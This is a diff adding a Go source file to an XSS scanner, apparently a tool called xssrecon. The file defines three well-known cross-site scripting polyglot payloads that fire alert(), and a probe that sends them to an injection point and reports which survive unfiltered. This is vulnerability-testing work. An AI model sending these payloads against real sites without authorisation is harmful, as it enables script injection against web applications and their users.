@@ -0,0 +1,54 @@
+package scanner
+
+import (
+	"github.com/bytes-Knight/xssrecon/pkg/utils"
+)
+
+// polyglot is a payload built to execute in many injection contexts at
+// once: HTML text, attribute values, script strings, comments and URLs.
+type polyglot struct {
+	name    string
+	payload string
+}
+
+// polyglots are the well-known polyglots sent by --polyglot. A polyglot
+// that comes back unmodified is a strong hint that one of the contexts it
+// targets is exploitable.
+var polyglots = []polyglot{
+	{"0xsobky", "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"},
+	{"karlsson", "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script><html \" onmouseover=/*<svg/*/onload=alert()//>"},
+	{"context-breaker", "'\"--></style></script><svg onload=alert(1)>"},
+}
+
+// polyglotProbe sends every polyglot through the injection point and
+// reports, by name, whether each came back unmodified.
+func (s *Scanner) polyglotProbe(req *utils.Request, target utils.Target, reflectedInDOM bool) map[string]bool {
+	payloads := make([]string, len(polyglots))
+	for i, p := range polyglots {
+		payloads[i] = p.payload
+	}
+	intact := s.payloadProbe(req, target, reflectedInDOM, payloads)
+
+	survived := make(map[string]bool, len(polyglots))
+	for _, p := range polyglots {
+		survived[p.name] = false
+		for _, i := range intact {
+			if i == p.payload {
+				survived[p.name] = true
+			}
+		}
+	}
+	return survived
+}
+
+// survivedPolyglots lists the names of the polyglots that survived, in the
+// order they were sent.
+func survivedPolyglots(results map[string]bool) []string {
+	names := []string{}
+	for _, p := range polyglots {
+		if results[p.name] {
+			names = append(names, p.name)
+		}
+	}
+	return names
+}